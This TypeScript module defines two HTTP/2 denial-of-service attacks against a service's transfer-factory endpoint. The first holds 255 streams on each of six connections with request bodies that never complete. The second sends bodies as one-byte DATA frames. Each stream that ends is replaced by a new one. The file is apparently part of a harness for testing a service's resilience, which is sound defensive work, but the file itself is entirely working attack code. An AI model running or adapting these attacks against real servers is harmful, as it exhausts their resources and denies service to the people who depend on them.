/** Many bodies on few HTTP/2 connections: incomplete ones, and ones in frames of one byte. */
import { TRANSFER_FACTORY_PATH } from "../honest/requests.js";
import { keepConnected } from "../wire/crowd.js";
import type { RequestBody } from "../wire/body-sender.js";
import { Http2Connection } from "../wire/http2-connection.js";
import { encodeRequestBlock } from "../wire/http2-frames.js";
import type { Attack } from "./attack.js";
import { BODY_BYTES } from "./bodies-http1.js";

/** One less than the default limit of the service. */
export const STREAMS = 255;
const CONNECTIONS = 6;

export const bodiesHttp2 = sendBodies({ content: Buffer.alloc(BODY_BYTES - 1, "["), ends: false });
export const smallDataFrames = sendBodies({
  content: Buffer.alloc(BODY_BYTES - 1, "["),
  oneByteFrames: true,
  ends: true,
});

/** Each stream that ends is followed by another. */
function sendBodies(body: RequestBody): Attack {
  const length = body.ends ? body.content.length : body.content.length + 1;
  const block = encodeRequestBlock("POST", TRANSFER_FACTORY_PATH, {
    "content-type": "application/json",
    "content-length": String(length),
  });
  return (target, tally, signal) =>
    keepConnected(target, tally, signal, {
      count: CONNECTIONS,
      use(socket) {
        const onStreamEnd = () => connection.request(block, body);
        const connection = new Http2Connection(socket, tally, { onStreamEnd });
        for (let stream = 0; stream < STREAMS; stream++) connection.request(block, body);
      },
    });
}
